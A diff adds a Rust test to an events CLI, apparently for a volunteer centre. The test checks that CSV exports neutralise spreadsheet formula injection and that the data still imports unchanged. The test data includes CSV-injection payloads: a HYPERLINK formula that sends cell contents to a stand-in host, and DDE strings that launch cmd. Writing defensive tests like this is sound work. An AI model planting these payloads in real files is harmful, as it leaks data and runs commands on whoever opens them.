@@ -573,3 +573,94 @@ fn ten_thousand_rows_import_completely() {
     let expected: u64 = (0..ROWS as u64).map(|i| i % 30 + i % 7).sum();
     assert_eq!(total, expected);
 }
+
+/// The classic CSV-injection payloads, in fields a volunteer types.
+const FORMULA_PAYLOADS: [&str; 5] = [
+    "=HYPERLINK(\"http://example.com/?leak=\"&A1,\"Klikšķini\")",
+    "+1+1",
+    "-2+3+cmd|' /C calc'!A0",
+    "@SUM(1+1)*cmd|' /C calc'!A0",
+    "'=1+1",
+];
+
+/// Cells of a CSV file (after its byte-order mark), row by row.
+fn csv_cells(file: &Path) -> Vec<Vec<String>> {
+    let text = std::fs::read_to_string(file).expect("the CSV reads");
+    let text = text.trim_start_matches('\u{feff}');
+    csv::ReaderBuilder::new()
+        .has_headers(false)
+        .delimiter(if text.lines().next().is_some_and(|l| l.contains(';')) {
+            b';'
+        } else {
+            b','
+        })
+        .from_reader(text.as_bytes())
+        .records()
+        .map(|r| r.expect("a record").iter().map(str::to_owned).collect())
+        .collect()
+}
+
+/// A cell a spreadsheet would run as a formula.
+fn runs_as_formula(cell: &str) -> bool {
+    cell.starts_with(['=', '+', '-', '@', '\t', '\r'])
+}
+
+#[test]
+fn formulas_typed_into_fields_are_exported_as_text_and_import_unchanged() {
+    let source = Cli::init("=HYPERLINK(\"http://example.com\",\"KRC\")");
+    for payload in FORMULA_PAYLOADS {
+        source.add([
+            format!("--title={payload}"),
+            "--kind=seminar".into(),
+            "--date=2026-03-02".into(),
+            format!("--place={payload}"),
+            format!("--description=\t{payload}"),
+        ]);
+    }
+    let file = source.file("eksports.csv");
+    source.ok(["export", "--format", "csv", "--out", path(&file)]);
+    let cells = csv_cells(&file);
+    assert_eq!(cells.len(), 1 + FORMULA_PAYLOADS.len());
+    for cell in cells.iter().flatten() {
+        assert!(!runs_as_formula(cell), "a spreadsheet would run {cell:?}");
+    }
+    let report = source.file("atskaite.csv");
+    source.ok([
+        "report",
+        "--from",
+        "2026-01-01",
+        "--to",
+        "2026-12-31",
+        "--format",
+        "csv",
+        "--out",
+        path(&report),
+    ]);
+    let report_cells = csv_cells(&report);
+    assert!(
+        report_cells
+            .iter()
+            .flatten()
+            .any(|c| c.contains("HYPERLINK"))
+    );
+    for cell in report_cells.iter().flatten() {
+        assert!(!runs_as_formula(cell), "a spreadsheet would run {cell:?}");
+    }
+
+    let target = Cli::init("Mērķa KRC");
+    target.ok(["import", path(&file)]);
+    let by_id = |list: &[Value]| {
+        let mut list = content(list);
+        list.sort_by(|a, b| a["id"].as_str().cmp(&b["id"].as_str()));
+        list
+    };
+    let expected = by_id(&source.list_json(&[]));
+    assert_eq!(by_id(&target.list_json(&[])), expected);
+    let titles: Vec<&str> = expected
+        .iter()
+        .filter_map(|a| a["title"].as_str())
+        .collect();
+    for payload in FORMULA_PAYLOADS {
+        assert!(titles.contains(&payload), "{payload:?} in {titles:?}");
+    }
+}
